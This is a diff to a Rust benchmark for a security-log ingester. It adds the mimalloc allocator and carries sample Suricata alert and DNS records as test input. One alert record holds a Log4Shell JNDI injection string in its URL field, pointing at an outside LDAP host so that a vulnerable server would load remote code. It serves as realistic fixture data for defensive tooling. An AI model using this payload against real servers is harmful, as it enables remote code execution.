@@ -8,6 +8,12 @@ use garrison_core::Timestamp;
 use garrison_ingest::{Context, suricata, windows, zeek};
 use std::hint::black_box;
 
+/// The binary's allocator (`crates/garrison/src/main.rs`): parsing
+/// allocates a string per text value, so the allocator is part of the
+/// figure.
+#[global_allocator]
+static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;
+
 const EVE: &[&str] = &[
     r#"{"timestamp":"2024-03-14T09:26:53.589793+0000","flow_id":1245631827309123,"in_iface":"eth0","event_type":"alert","src_ip":"203.0.113.77","src_port":44321,"dest_ip":"10.20.30.40","dest_port":8080,"proto":"TCP","pkt_src":"wire/pcap","community_id":"1:Qa82cl2bHpIRvy6bCKNJ8m5uFHc=","tx_id":0,"alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":3,"signature":"ET EXPLOIT Apache log4j RCE Attempt - lower/upper TCP Bypass (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"affected_product":["Apache_log4j"],"attack_target":["Server"],"created_at":["2021_12_10"],"cve":["CVE_2021_44228"],"deployment":["Perimeter","Internal"],"signature_severity":["Major"],"updated_at":["2021_12_14"]}},"http":{"hostname":"10.20.30.40","http_port":8080,"url":"/?x=${jndi:ldap://203.0.113.77:1389/a}","http_user_agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","http_content_type":"text/html","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":612},"app_proto":"http","direction":"to_server","flow":{"pkts_toserver":4,"pkts_toclient":3,"bytes_toserver":622,"bytes_toclient":1104,"start":"2024-03-14T09:26:53.512001+0000","src_ip":"203.0.113.77","dest_ip":"10.20.30.40","src_port":44321,"dest_port":8080}}"#,
     r#"{"timestamp":"2024-03-14T09:26:54.001234+0000","flow_id":1835273662719283,"in_iface":"eth0","event_type":"dns","src_ip":"10.20.30.41","src_port":53412,"dest_ip":"10.20.0.2","dest_port":53,"proto":"UDP","pkt_src":"wire/pcap","community_id":"1:dUmq3K0DHrBjSH8kMVXEjpDwmfQ=","dns":{"version":2,"type":"answer","id":48211,"flags":"8180","qr":true,"rd":true,"ra":true,"opcode":0,"rrname":"updates.example.com","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"updates.example.com","rrtype":"CNAME","ttl":300,"rdata":"cdn.example.net"},{"rrname":"cdn.example.net","rrtype":"A","ttl":60,"rdata":"198.51.100.23"}],"grouped":{"A":["198.51.100.23"],"CNAME":["cdn.example.net"]}}}"#,
